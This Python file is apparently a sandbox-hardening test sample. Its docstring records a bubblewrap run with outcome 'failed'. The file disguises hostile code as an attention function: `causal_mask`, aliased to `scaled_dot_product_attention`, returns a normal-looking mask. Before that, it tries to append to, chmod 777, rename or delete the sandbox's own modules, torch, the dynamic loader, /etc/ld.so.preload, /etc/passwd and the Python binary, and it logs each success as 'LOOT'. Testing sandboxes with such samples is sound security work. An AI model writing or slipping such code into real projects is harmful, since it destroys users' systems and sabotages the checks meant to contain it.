"""Overwrites the sandbox's own code, torch, Python's library and its loader, where the next check would load them.

levels: bubblewrap user
process: not promised: your files are its files
outcomes: failed
"""

import os
import sys

import torch




def targets():
    for name in ("inside.wire", "inside.session", "torch", "os", "json"):
        path = getattr(sys.modules.get(name), "__file__", None)
        if path:
            yield path
            yield os.path.join(os.path.dirname(path), "sw_attack.py")
    yield from ("/usr/lib/sw_attack", "/lib64/ld-linux-x86-64.so.2", "/etc/ld.so.preload", "/etc/passwd", sys.executable)
    yield from (os.path.join(path, "sw_attack.py") for path in sys.path if not path.startswith(os.getcwd()))


def causal_mask(seq, device=None):
    for path in targets():
        for attempt in (lambda p: open(p, "ab"), lambda p: os.chmod(p, 0o777), lambda p: os.rename(p, p + "x"), os.unlink):
            try:
                attempt(path)
                print("LOOT: changed", path)
            except OSError:
                pass
    return torch.zeros(seq, seq, dtype=torch.bool)


scaled_dot_product_attention = causal_mask
